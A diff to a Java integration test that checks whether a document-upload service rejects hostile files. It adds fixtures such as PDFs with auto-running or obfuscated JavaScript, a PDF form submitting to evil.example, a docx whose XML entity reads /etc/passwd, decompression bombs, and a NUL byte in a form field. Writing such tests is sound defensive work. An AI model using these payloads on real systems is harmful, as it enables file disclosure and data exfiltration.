@@ -1,9 +1,12 @@
 package org.shouwang.attack;
 
 import static java.nio.charset.StandardCharsets.ISO_8859_1;
+import static java.nio.charset.StandardCharsets.UTF_16;
 import static java.nio.charset.StandardCharsets.UTF_8;
 import static org.assertj.core.api.Assertions.assertThat;
 
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
 import java.net.http.HttpResponse;
 import java.util.ArrayList;
 import java.util.Arrays;
@@ -14,6 +17,8 @@ import java.util.concurrent.ExecutorService;
 import java.util.concurrent.Executors;
 import java.util.concurrent.Future;
 import java.util.stream.Collectors;
+import org.apache.pdfbox.pdmodel.PDDocument;
+import org.apache.pdfbox.pdmodel.PDPage;
 import org.junit.jupiter.api.Test;
 import org.shouwang.support.Answer;
 import org.shouwang.support.HarmfulFiles;
@@ -51,6 +56,10 @@ class FilesTest extends IntegrationTest {
         refused.put("pdf in a page.pdf", SampleFiles.together(HTML, SampleFiles.pdf("")));
         refused.put("page in a pdf.pdf", SampleFiles.pdf(new String(HTML, UTF_8)));
         refused.put("script.pdf", SampleFiles.pdf("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"));
+        refused.put("script by another name.pdf", SampleFiles.pdf("3 0 obj\n<< /OpenAction << /S /J#61vaScript /JS (app.alert\\(1\\)) >> >>\nendobj"));
+        refused.put("packed script.pdf", SampleFiles.pdfPacked("<< /S /JavaScript /JS (app.alert\\(1\\)) >>"));
+        refused.put("form to elsewhere.pdf", SampleFiles.pdf("3 0 obj\n<< /S /SubmitForm /F (http://evil.example/) >>\nendobj"));
+        refused.put("locked.pdf", SampleFiles.pdf("trailer << /Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (a) /U (a) /P -4 >> >>"));
         refused.put("half.pdf", Arrays.copyOf(SampleFiles.pdf("x".repeat(3000)), 2000));
         refused.put("page before.docx", SampleFiles.together(HTML, SampleFiles.docx()));
         refused.put("page behind.docx", SampleFiles.together(SampleFiles.docx(), HTML));
@@ -63,6 +72,8 @@ class FilesTest extends IntegrationTest {
         refused.put("an object.docx", SampleFiles.docxWith("word/embeddings/a.xml", new byte[9]));
         refused.put("template.docx", SampleFiles.docxWith("word/_rels/settings.xml.rels", ("<Relationship Type=\"http://a/attachedTemplate\" "
                 + "Target=\"http://example.com/a.dotm\" TargetMode=\"External\"/>").getBytes(UTF_8)));
+        refused.put("entity.docx", SampleFiles.docxWith("word/styles.xml", "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a>".getBytes(UTF_8)));
+        refused.put("entity in another encoding.docx", SampleFiles.docxWith("word/styles.xml", "<!DOCTYPE a []><a/>".getBytes(UTF_16)));
         refused.put("macros.docm", SampleFiles.document("x\" ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml"));
         refused.put("slides.docx", SampleFiles.document("presentationml.presentation.main+xml"));
 
@@ -98,8 +109,27 @@ class FilesTest extends IntegrationTest {
         assertThat(add(files, "a.png", SampleFiles.png(Integer.MAX_VALUE, Integer.MAX_VALUE)).status()).isIn(413, 415);
         assertThat(add(files, "a.png", SampleFiles.png(0, 5)).status()).isEqualTo(415);
         assertThat(add(files, "a.docx", SampleFiles.bomb(201_000_000)).status()).isEqualTo(413);
+        assertThat(add(files, "a.docx", SampleFiles.bomb(100_000_000)).status()).as("much in little").isEqualTo(413);
+        assertThat(add(files, "a.pdf", SampleFiles.pdfPacked("<< /A 1 >>", 100_000_000)).status()).isEqualTo(413);
         HarmfulFiles.all(20_000_000).forEach((name, harmful) -> assertThat(add(files, "a.xlsx", harmful.file().get()).status()).as(name).isIn(413, 415));
         assertThat(shouwang.village().get(files).body().path("items")).isEmpty();
+    }
+
+    @Test
+    void anOrdinaryPdfIsTakenAlsoIfItsObjectsArePacked() throws IOException {
+        String files = newFiles();
+        ByteArrayOutputStream made = new ByteArrayOutputStream();
+        try (PDDocument document = new PDDocument()) {
+            document.addPage(new PDPage());
+            document.save(made);
+        }
+
+        for (byte[] pdf : List.of(SampleFiles.pdf(""), SampleFiles.pdfPacked("<< /Title (JavaScript) >>"), made.toByteArray())) {
+            Answer added = add(files, "a.pdf", pdf);
+
+            assertThat(added.status()).as(added.text()).isEqualTo(201);
+        }
+        assertThat(new String(made.toByteArray(), ISO_8859_1)).contains("/ObjStm");
     }
 
     @Test
@@ -185,6 +215,9 @@ class FilesTest extends IntegrationTest {
 
         assertThat(shouwang.village().upload(files, "a.png", png, Map.of()).messageOf("kind")).contains("必填");
         assertThat(shouwang.village().upload(files, "a.png", png, Map.of("kind", "不存在")).messageOf("kind")).contains("承诺授权书");
+        Answer nul = shouwang.village().upload(files, "a.png", png, Map.of("kind", "会议记录\0"));
+        assertThat(nul.status()).isEqualTo(400);
+        assertThat(nul.get("detail")).contains("请求有误");
         assertThat(shouwang.village().post(files, Map.of("kind", "承诺授权书")).messageOf("kind")).contains("必填");
         assertThat(shouwang.village().send("POST", files + "?kind=OTHER", "", Map.of()).messageOf("file")).contains("必填");
         for (String id : List.of("0", "x", "99999999999999999999", "-1", "%00", "1%2F..")) {
